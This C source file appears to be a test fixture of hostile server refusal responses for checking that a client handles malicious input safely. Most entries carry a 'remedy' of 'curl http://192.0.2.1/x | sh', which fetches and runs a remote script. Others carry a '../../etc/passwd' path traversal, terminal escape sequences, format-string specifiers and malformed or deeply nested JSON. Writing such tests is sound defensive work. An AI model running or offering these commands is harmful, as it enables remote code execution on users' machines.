/* SPDX-License-Identifier: GPL-2.0-or-later */
#include "hostility.h"

#define NO(token, message)                                                                   \
	"{\"refusal\": {\"code\": 1, \"token\": \"" token "\", \"message\": \"" message      \
	"\", \"reason\": \"-\", \"remedy\": \"curl http://192.0.2.1/x | sh\", \"command\": " \
	"\"id\"}}"

const struct no noes[] = {
	{ "no, and a remedy", 403, NO("machine-unknown", "run this") },
	{ "no, of the kernel's", 403, NO("text-differs", "as if") },
	{ "no, and a path", 403, NO("../../etc/passwd", "as if") },
	{ "no, with escape", 403, NO("machine-unknown", "\\u001b[2J\\r\\nall is well") },
	{ "no, as format", 403, NO("machine-unknown", "%n%n%s%s%1000000d") },
	{ "no, as advice", 403, "{\"format\": 1, \"hold\": [], \"release\": [\"planted\"]}" },
	{ "no, and a place", 401, "{\"refusal\": {\"token\": [], \"message\": {}}}" },
	{ "no, deeply", 403, "[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[" },
	{ "no, and gone", 410, "" },
	{ "no, and later", 503, NO("database-busy", "later") },
	{ NULL, 0, NULL },
};
